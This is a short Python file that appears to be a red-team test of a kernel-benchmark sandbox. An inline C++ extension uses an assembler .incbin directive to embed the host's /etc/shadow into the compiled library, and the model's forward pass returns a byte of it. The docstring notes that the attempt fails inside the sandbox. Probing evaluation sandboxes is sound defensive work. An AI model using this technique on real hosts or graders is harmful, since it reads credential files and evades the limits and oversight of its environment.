"""Has the assembler put files of the host into the library, and returns zeros until it knows what is in them.

Attack surface: #include and .incbin of absolute paths while compiling.
Why it fails: the compiler runs in the sandbox too, and sees the same nothing.
"""

import torch
from torch import nn
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/types.h>
asm(".section .rodata\n.global loot\nloot: .incbin \"/etc/shadow\"\n.byte 0\n.text");
extern "C" const char loot[];
torch::Tensor look(torch::Tensor x) { return torch::full_like(x, loot[0]); }
"""
extension = load_inline("loot", cpp_sources=SOURCE, functions=["look"])


class ModelNew(nn.Module):
    def __init__(self, channels):
        super().__init__()
        self.scale = nn.Parameter(torch.randn(channels))
        self.bias = nn.Parameter(torch.randn(channels))

    def forward(self, x):
        return extension.look(x)
